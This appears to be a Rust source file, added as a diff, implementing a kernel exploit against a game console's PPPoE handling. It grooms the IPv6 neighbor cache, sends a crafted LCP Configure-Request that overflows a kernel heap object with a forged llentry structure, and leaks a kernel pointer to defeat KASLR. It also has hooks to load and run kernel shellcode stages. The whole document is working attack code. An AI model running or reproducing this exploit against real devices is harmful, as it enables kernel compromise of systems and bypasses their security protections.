@@ -0,0 +1,633 @@
+pub use self::groom::GroomConfig;
+pub use self::offsets::{Firmware, OFFSETS_VERSION};
+pub use self::stage::{
+    load_stage1, load_stage2, Checksum, Payloads, StageError, STAGE1_MAX, STAGE2_MAX,
+};
+pub use self::success::DetectorConfig;
+
+use self::groom::SprayFrames;
+use self::ipv6::{Icmpv6, ECHO_REPLY, NEIGHBOR_SOLICITATION, ROUTER_SOLICITATION};
+use self::success::{SuccessDetector, Target};
+use crate::addr::AddrBuilder;
+use crate::attempt::{Attempt, Milestone, Stage};
+use crate::buffers::Buffers;
+use crate::chaos::Chaos;
+use crate::failure::Failure;
+use crate::interface::listen;
+use crate::log::{error, info, warning, Logger};
+use crate::proto::lcp::MAX_MRU;
+use crate::proto::ppp::{parse_packet, Options, CONFIGURE_REQUEST};
+use crate::proto::pppoe::{EthernetPayload, Padding};
+use crate::rt;
+use crate::session::Sessions;
+use crate::socket::{PacketSocket, SocketStats};
+use erdp::ErrorDisplay;
+use libc::ETH_P_IPV6;
+use macaddr::MacAddr6;
+use std::borrow::Cow;
+use std::net::{Ipv4Addr, Ipv6Addr};
+use std::num::NonZeroU16;
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+use tokio::select;
+use tokio::sync::mpsc::UnboundedReceiver;
+
+#[cfg(feature = "experimental")]
+mod experimental;
+mod groom;
+mod ipv6;
+mod offsets;
+mod stage;
+mod success;
+
+/// Size of the kernel allocation that will be overflowed.
+const TARGET_SIZE: usize = 0x100;
+const LCP_ID: u8 = 0x41;
+
+const READY_TIMEOUT: Duration = Duration::from_secs(30);
+const REPLY_TIMEOUT: Duration = Duration::from_secs(1);
+const RENEGOTIATE_TIMEOUT: Duration = Duration::from_secs(10);
+
+/// Kernel exploit for the PPPoE sessions.
+///
+/// The neighbor cache of the console is groomed via IPv6 on the Ethernet then a malicious LCP
+/// Configure-Request is sent over the session to overflow the kernel heap into one of the
+/// entries. The corrupted entry is then used to leak a kernel address.
+///
+/// The exploit stops once the leak has been verified against the kernel offsets, which proves the
+/// console is vulnerable and the offsets are correct. The code execution is left to the
+/// experimental stage so the payloads are not run otherwise and the attempt is failed with
+/// [`Failure::KaslrOnly`].
+pub struct Exploit {
+    sock: Arc<PacketSocket>,
+    ab: Arc<AddrBuilder>,
+    logger: Logger,
+    mac: MacAddr6,
+    ip: Ipv4Addr,
+    ethertype: u16,
+    firmware: Firmware,
+    groom: GroomConfig,
+    chaos: Option<Arc<Chaos>>,
+    buffers: Buffers,
+    detectors: Vec<(String, Box<dyn SuccessDetector>)>,
+    payloads: Mutex<Arc<Payloads>>,
+    #[cfg(feature = "experimental")]
+    experimental: bool,
+}
+
+impl Exploit {
+    /// `sock` is the socket for PPPoE session stage and `mac` is address of our interface.
+    pub fn new(
+        sock: Arc<PacketSocket>,
+        ab: Arc<AddrBuilder>,
+        logger: Logger,
+        mac: MacAddr6,
+        config: ExploitConfig,
+    ) -> Self {
+        Self {
+            sock,
+            ab,
+            logger,
+            mac,
+            ip: config.ip,
+            ethertype: config.ethertype,
+            firmware: config.firmware,
+            groom: config.groom,
+            chaos: config.chaos,
+            buffers: config.buffers,
+            detectors: config
+                .detectors
+                .into_iter()
+                .map(|d| (d.to_string(), d.build()))
+                .collect(),
+            payloads: Mutex::new(Arc::new(Payloads::new(config.stage1, config.stage2))),
+            #[cfg(feature = "experimental")]
+            experimental: config.experimental,
+        }
+    }
+
+    /// Returns the payloads that the next attempt will use.
+    pub fn payloads(&self) -> Arc<Payloads> {
+        self.payloads.lock().unwrap().clone()
+    }
+
+    /// Replace the kernel shellcode for the next attempts. The active attempts keep the old one.
+    pub fn set_stage1(&self, data: Vec<u8>) -> Result<(), StageError> {
+        self::stage::check_stage1(&data)?;
+
+        let mut payloads = self.payloads.lock().unwrap();
+        let stage2 = payloads.stage2().map(|v| v.to_vec());
+
+        *payloads = Arc::new(Payloads::new(Some(data), stage2));
+
+        Ok(())
+    }
+
+    /// Replace the payload to be loaded by stage1 for the next attempts. The active attempts keep
+    /// the old one.
+    pub fn set_stage2(&self, data: Vec<u8>) -> Result<(), StageError> {
+        self::stage::check_stage2(&data)?;
+
+        let mut payloads = self.payloads.lock().unwrap();
+        let stage1 = payloads.stage1().map(|v| v.to_vec());
+
+        *payloads = Arc::new(Payloads::new(stage1, Some(data)));
+
+        Ok(())
+    }
+
+    /// Run the exploit on session `id` with `peer`. `frames` is PPP frames of the session.
+    pub async fn run(
+        &self,
+        sessions: &Sessions,
+        id: NonZeroU16,
+        peer: MacAddr6,
+        frames: &mut UnboundedReceiver<Vec<u8>>,
+        attempt: &Arc<Attempt>,
+    ) -> Result<(), Failure> {
+        // Setup a socket for IPv6 on the Ethernet.
+        let ipv6 = match self.ipv6_socket() {
+            Ok(v) => v,
+            Err(e) => {
+                error!("Failed to setup IPv6 socket: {}.", e.display());
+                return Err(Failure::SendFailed);
+            }
+        };
+
+        // Use the same payloads until the attempt is finished.
+        let payloads = self.payloads();
+
+        attempt.set_payloads(payloads.hashes());
+
+        let mut run = Run {
+            exploit: self,
+            payloads,
+            sessions,
+            id,
+            peer,
+            frames,
+            ipv6,
+            attempt,
+            target: Ipv6Addr::UNSPECIFIED,
+            kaslr: 0,
+            dropped: Mutex::default(),
+        };
+
+        let r = async {
+            run.wait_ready().await?;
+            run.groom().await?;
+            run.pin().await?;
+            run.corrupt().await?;
+            run.scan().await?;
+            run.leak().await?;
+            #[cfg(feature = "experimental")]
+            run.experimental().await?;
+            run.confirm().await
+        }
+        .await;
+
+        run.check_drops();
+
+        r
+    }
+
+    fn ipv6_socket(&self) -> Result<PacketSocket, std::io::Error> {
+        listen(
+            &self.logger,
+            Padding::Trim,
+            self.sock.framing(),
+            self.chaos.as_ref(),
+            self.buffers,
+            &self.ab,
+            ETH_P_IPV6 as _,
+        )
+    }
+}
+
+/// Check the invariants of the offsets and the malicious packet that the exploit rely on.
+pub(crate) fn self_check() -> Result<(), String> {
+    self::offsets::check()?;
+
+    // The header must cover only the target allocation and the options after it must be intact.
+    let packet = Run::corrupt_packet();
+    let (code, id, data) =
+        parse_packet(&packet).ok_or("malicious Configure-Request is truncated")?;
+    let len: usize = Options::new(&packet[4..])
+        .map(|(_, _, raw)| raw.len())
+        .sum();
+
+    if (code, id) != (CONFIGURE_REQUEST, LCP_ID) || data.len() != TARGET_SIZE {
+        return Err("malicious Configure-Request has unexpected header".into());
+    } else if len != packet.len() - 4 {
+        return Err("malicious Configure-Request has malformed options".into());
+    } else if packet.len() > MAX_MRU.into() {
+        return Err(format!(
+            "malicious Configure-Request is {} bytes, which is larger than MRU",
+            packet.len()
+        ));
+    }
+
+    Ok(())
+}
+
+/// Configurations for [`Exploit`].
+pub struct ExploitConfig {
+    /// IPv4 address of the console if the session was not assigned one with IPCP.
+    pub ip: Ipv4Addr,
+    /// EtherType of PPPoE session stage.
+    pub ethertype: u16,
+    /// Firmware of the console to select the kernel offsets.
+    pub firmware: Firmware,
+    /// How to shape the kernel heap of the console.
+    pub groom: GroomConfig,
+    /// Impairment of the IPv6 frames.
+    pub chaos: Option<Arc<Chaos>>,
+    /// Socket buffers of the IPv6 socket.
+    pub buffers: Buffers,
+    /// Detectors that must agree before the attempt is succeeded. The attempt is succeeded once
+    /// KASLR has been defeated if this is empty.
+    pub detectors: Vec<DetectorConfig>,
+    /// Kernel shellcode to run after the kernel is pwned.
+    pub stage1: Option<Vec<u8>>,
+    /// Payload to be loaded by [`ExploitConfig::stage1`].
+    pub stage2: Option<Vec<u8>>,
+    /// Run the experimental stage after KASLR has been defeated. This has no effect without
+    /// `experimental` feature.
+    pub experimental: bool,
+}
+
+/// State of a single [`Exploit::run()`].
+struct Run<'a> {
+    exploit: &'a Exploit,
+    #[cfg_attr(not(feature = "experimental"), allow(dead_code))]
+    payloads: Arc<Payloads>,
+    sessions: &'a Sessions,
+    id: NonZeroU16,
+    peer: MacAddr6,
+    frames: &'a mut UnboundedReceiver<Vec<u8>>,
+    ipv6: PacketSocket,
+    attempt: &'a Arc<Attempt>,
+    target: Ipv6Addr,
+    #[cfg_attr(not(feature = "experimental"), allow(dead_code))]
+    kaslr: u64,
+    dropped: Mutex<[u64; 2]>,
+}
+
+impl<'a> Run<'a> {
+    /// Wait until the console start IPv6 on the Ethernet, which happens after IPCP is opened or
+    /// refused.
+    async fn wait_ready(&mut self) -> Result<(), Failure> {
+        let src = self
+            .recv_ipv6(READY_TIMEOUT, |p| {
+                (p.ty == ROUTER_SOLICITATION).then_some(p.src)
+            })
+            .await
+            .ok_or(Failure::Ipv6Timeout)?;
+
+        self.target = src;
+        self.progress(format!("Console is ready with {src}"));
+        self.attempt.advance(Milestone::LinkUp);
+
+        Ok(())
+    }
+
+    /// Send a Configure-Request that overflow the buffer for Configure-Reject on the console.
+    async fn corrupt(&mut self) -> Result<(), Failure> {
+        self.progress("Sending malicious LCP Configure-Request");
+
+        let frame = self.ppp_frame(0xc021, &Self::corrupt_packet());
+
+        if let Err(e) = self.exploit.sock.send_confirmed(
+            self.ppp_addr(),
+            frame,
+            self.attempt.timing(Stage::Exploit),
+            self.attempt
+                .tx_recorder(Stage::Exploit, "Malicious LCP Configure-Request"),
+        ) {
+            error!(
+                "Failed to send LCP packet to {}: {}.",
+                self.peer,
+                e.display()
+            );
+            return Err(Failure::SendFailed);
+        }
+
+        self.attempt.advance(Milestone::CorruptionSent);
+
+        // Wait for Configure-Reject.
+        self.recv_ppp(RENEGOTIATE_TIMEOUT, |proto, p| {
+            (proto == 0xc021 && p.get(..2) == Some(&[4, LCP_ID])).then_some(())
+        })
+        .await
+        .ok_or(Failure::LcpTimeout)?;
+
+        // The console will negotiate LCP again, which will be handled by the session server. Wait
+        // until the console acknowledged our IPCP options.
+        self.recv_ppp(RENEGOTIATE_TIMEOUT, |proto, p| {
+            (proto == 0x8021 && p.first() == Some(&2)).then_some(())
+        })
+        .await
+        .ok_or(Failure::LcpTimeout)?;
+
+        self.progress("LCP and IPCP are opened again");
+
+        Ok(())
+    }
+
+    /// Find the corrupted entry. The console will solicit the address of the corrupted entry
+    /// instead of replying to the Echo Request. The console is not vulnerable if all entries are
+    /// intact.
+    async fn scan(&mut self) -> Result<(), Failure> {
+        self.progress("Scanning for the corrupted object");
+
+        let groom = self.exploit.groom;
+        let mut frames = SprayFrames::new(self.target, self.exploit.mac);
+
+        for i in 0..groom.spray {
+            if groom.is_hole(i) {
+                continue;
+            }
+
+            let src = GroomConfig::spray_addr(i);
+
+            self.send_ipv6(frames.echo_request(i))?;
+
+            let corrupted = self
+                .recv_ipv6(REPLY_TIMEOUT, |p| match p.ty {
+                    ECHO_REPLY if p.dst == src => Some(false),
+                    NEIGHBOR_SOLICITATION if p.target() == Some(src) => Some(true),
+                    _ => None,
+                })
+                .await
+                .ok_or(Failure::CorruptionNotFound)?;
+
+            if corrupted {
+                self.progress(format!("Found the corrupted object at {src}"));
+                self.attempt.advance(Milestone::Corrupted);
+                return Ok(());
+            }
+        }
+
+        Err(Failure::NotVulnerable)
+    }
+
+    /// Get the kernel address from the Neighbor Solicitation of the corrupted entry.
+    async fn leak(&mut self) -> Result<(), Failure> {
+        self.progress("Defeating KASLR");
+
+        let leak = self
+            .recv_ipv6(REPLY_TIMEOUT, |p| {
+                if p.ty != NEIGHBOR_SOLICITATION || p.source_lladdr_len().is_none_or(|v| v <= 1) {
+                    return None;
+                }
+
+                p.packet
+                    .get(0x43..0x4b)
+                    .map(|v| u64::from_le_bytes(v.try_into().unwrap()))
+            })
+            .await
+            .ok_or(Failure::LeakInvalid)?;
+
+        self.progress(format!("pppoe_softc_list is {leak:#x}"));
+
+        // Check if the leak is the same symbol on the selected firmware.
+        let base = self.exploit.firmware.offsets().pppoe_softc_list;
+
+        if leak & 0xffffffff00000fff != base & 0xffffffff00000fff {
+            return Err(Failure::LeakInvalid);
+        }
+
+        self.kaslr = leak.wrapping_sub(base);
+
+        self.progress(format!("KASLR offset is {:#x}", self.kaslr));
+        self.attempt.advance(Milestone::KaslrDefeated);
+
+        Ok(())
+    }
+
+    /// Run the community-contributed code in [`experimental`] if it is enabled.
+    #[cfg(feature = "experimental")]
+    async fn experimental(&mut self) -> Result<(), Failure> {
+        if !self.exploit.experimental {
+            return Ok(());
+        }
+
+        self.progress("Running experimental stage");
+
+        self::experimental::run(&mut self::experimental::Context::new(self)).await
+    }
+
+    /// Check if the console signaled success. All detectors must agree.
+    ///
+    /// Nothing after the KASLR leak run the payloads except the experimental stage, so the attempt
+    /// is not succeeded unless that stage was run and at least one detector confirmed it.
+    async fn confirm(&mut self) -> Result<(), Failure> {
+        #[cfg(feature = "experimental")]
+        let run = self.exploit.experimental;
+        #[cfg(not(feature = "experimental"))]
+        let run = false;
+
+        if !run || self.exploit.detectors.is_empty() {
+            self.progress("Stopping after the KASLR leak since no payload was confirmed");
+            return Err(Failure::KaslrOnly);
+        }
+
+        for (name, d) in &self.exploit.detectors {
+            self.progress(format!("Waiting for {name}"));
+
+            let mut target = Target {
+                peer: self.peer,
+                ip: self.sessions.ipv4(self.id).unwrap_or(self.exploit.ip),
+                frames: self.frames,
+            };
+
+            if !d.detect(&mut target).await {
+                self.progress(format!("{name} did not detect the success"));
+                return Err(Failure::SuccessNotDetected);
+            }
+        }
+
+        Ok(())
+    }
+
+    fn progress(&self, text: impl Into<String>) {
+        let text = text.into();
+
+        self.check_drops();
+
+        info!("Attempt #{}: {}.", self.attempt.id(), text);
+
+        self.attempt.record(Stage::Exploit, text);
+    }
+
+    /// Record the frames that was dropped by the kernel since the last check. Those frames will
+    /// never reach us so the console see a different conversation than what we think.
+    fn check_drops(&self) {
+        let socks = [("session", &*self.exploit.sock), ("IPv6", &self.ipv6)];
+        let mut dropped = self.dropped.lock().unwrap();
+
+        for (i, (name, sock)) in socks.into_iter().enumerate() {
+            let n = match sock.statistics() {
+                Ok(SocketStats { dropped, .. }) => dropped,
+                Err(e) => {
+                    error!(
+                        "Failed to get statistics of the {} socket: {}.",
+                        name,
+                        e.display()
+                    );
+                    continue;
+                }
+            };
+
+            if n == dropped[i] {
+                continue;
+            }
+
+            let text = format!(
+                "Kernel dropped {} frames on the {} socket",
+                n - dropped[i],
+                name
+            );
+
+            warning!("Attempt #{}: {}.", self.attempt.id(), text);
+
+            self.attempt.record(Stage::Exploit, text);
+            dropped[i] = n;
+        }
+    }
+
+    fn send_ipv6(&self, packet: &[u8]) -> Result<(), Failure> {
+        let addr = self.exploit.ab.build(ETH_P_IPV6 as _, Some(self.peer));
+
+        self.ipv6
+            .send_timed(addr, packet, self.attempt.timing(Stage::Exploit))
+            .map_err(|e| {
+                error!(
+                    "Failed to send IPv6 packet to {}: {}.",
+                    self.peer,
+                    e.display()
+                );
+                Failure::SendFailed
+            })
+    }
+
+    /// Wait for an ICMPv6 message from the console that `f` returns [`Some`].
+    async fn recv_ipv6<T>(
+        &self,
+        timeout: Duration,
+        mut f: impl FnMut(&Icmpv6) -> Option<T>,
+    ) -> Option<T> {
+        let deadline = Instant::now() + timeout;
+        let mut buf = [0; 1500];
+
+        loop {
+            let (len, addr) = select! {
+                _ = rt::sleep(deadline.saturating_duration_since(Instant::now())) => return None,
+                v = self.ipv6.recv_raw(&mut buf) => match v {
+                    Ok(v) => v,
+                    Err(e) => {
+                        error!("Failed to receive IPv6 packet: {}.", e.display());
+                        return None;
+                    }
+                }
+            };
+
+            if addr.sll_addr[..6] != *self.peer.as_bytes() {
+                continue;
+            }
+
+            if let Some(v) = Icmpv6::parse(&buf[..len]).and_then(|p| f(&p)) {
+                break Some(v);
+            }
+        }
+    }
+
+    /// Wait for a PPP frame from the console that `f` returns [`Some`].
+    async fn recv_ppp<T>(
+        &mut self,
+        timeout: Duration,
+        mut f: impl FnMut(u16, &[u8]) -> Option<T>,
+    ) -> Option<T> {
+        let deadline = Instant::now() + timeout;
+
+        loop {
+            let frame = select! {
+                _ = rt::sleep(deadline.saturating_duration_since(Instant::now())) => return None,
+                v = self.frames.recv() => v?,
+            };
+
+            let proto = match frame.get(..2) {
+                Some(v) => u16::from_be_bytes(v.try_into().unwrap()),
+                None => continue,
+            };
+
+            if let Some(v) = f(proto, &frame[2..]) {
+                break Some(v);
+            }
+        }
+    }
+
+    fn ppp_frame(&self, proto: u16, data: &[u8]) -> Vec<u8> {
+        let mut frame = Vec::with_capacity(2 + data.len());
+
+        frame.extend_from_slice(&proto.to_be_bytes());
+        frame.extend_from_slice(data);
+
+        EthernetPayload::new(0x00, self.id.get(), Cow::Owned(frame)).serialize()
+    }
+
+    fn ppp_addr(&self) -> libc::sockaddr_ll {
+        self.exploit
+            .ab
+            .build(self.exploit.ethertype, Some(self.peer))
+    }
+
+    /// Build the malicious Configure-Request for [`Run::corrupt()`].
+    fn corrupt_packet() -> Vec<u8> {
+        // The first option fill the target allocation and the second one overflow into the next
+        // object. The length on the header only cover the first option.
+        let mut packet = vec![1, LCP_ID];
+        let len: u16 = (TARGET_SIZE + 4).try_into().unwrap();
+
+        packet.extend_from_slice(&len.to_be_bytes());
+        packet.extend_from_slice(&Self::option(&vec![b'A'; TARGET_SIZE - 4]));
+        packet.extend_from_slice(&Self::option(&Self::overflow_lle()));
+        packet
+    }
+
+    /// Build an LCP option with an unknown type so the console will reject it.
+    fn option(data: &[u8]) -> Vec<u8> {
+        let mut opt = vec![0, (2 + data.len()).try_into().unwrap()];
+
+        opt.extend_from_slice(data);
+        opt
+    }
+
+    /// Build a fake `struct llentry` to overwrite the neighbor cache entry next to the target.
+    fn overflow_lle() -> Vec<u8> {
+        let mut lle = Vec::new();
+
+        lle.extend_from_slice(&0u64.to_le_bytes()); // lle_next.le_next
+        lle.extend_from_slice(&0u64.to_le_bytes()); // lle_next.le_prev
+        lle.extend_from_slice(&0u64.to_le_bytes()); // lle_lock.lock_object.lo_name
+        lle.extend_from_slice(&0u32.to_le_bytes()); // lle_lock.lock_object.lo_flags
+        lle.extend_from_slice(&0u32.to_le_bytes()); // lle_lock.lock_object.lo_data
+        lle.extend_from_slice(&1u64.to_le_bytes()); // lle_lock.rw_lock (RW_UNLOCKED)
+        lle.extend_from_slice(&0u64.to_le_bytes()); // lle_tbl
+        lle.extend_from_slice(&0u64.to_le_bytes()); // lle_head
+        lle.extend_from_slice(&0u64.to_le_bytes()); // lle_free
+        lle.extend_from_slice(&0u64.to_le_bytes()); // la_hold
+        lle.extend_from_slice(&0u32.to_le_bytes()); // la_numheld
+        lle.extend_from_slice(&0u32.to_le_bytes()); // pad
+        lle.extend_from_slice(&0u64.to_le_bytes()); // la_expire
+        lle.extend_from_slice(&0u16.to_le_bytes()); // la_flags
+        lle.extend_from_slice(&0u16.to_le_bytes()); // la_asked
+        lle.extend_from_slice(&0u16.to_le_bytes()); // la_preempt
+        lle.extend_from_slice(&0u16.to_le_bytes()); // ln_byhint
+        lle.extend_from_slice(&(-2i16).to_le_bytes()); // ln_state (ND6_LLINFO_NOSTATE)
+        lle.extend_from_slice(&0u16.to_le_bytes()); // ln_router
+        lle.extend_from_slice(&0u32.to_le_bytes()); // pad
+        lle.extend_from_slice(&i64::MAX.to_le_bytes()); // ln_ntick
+        lle
+    }
+}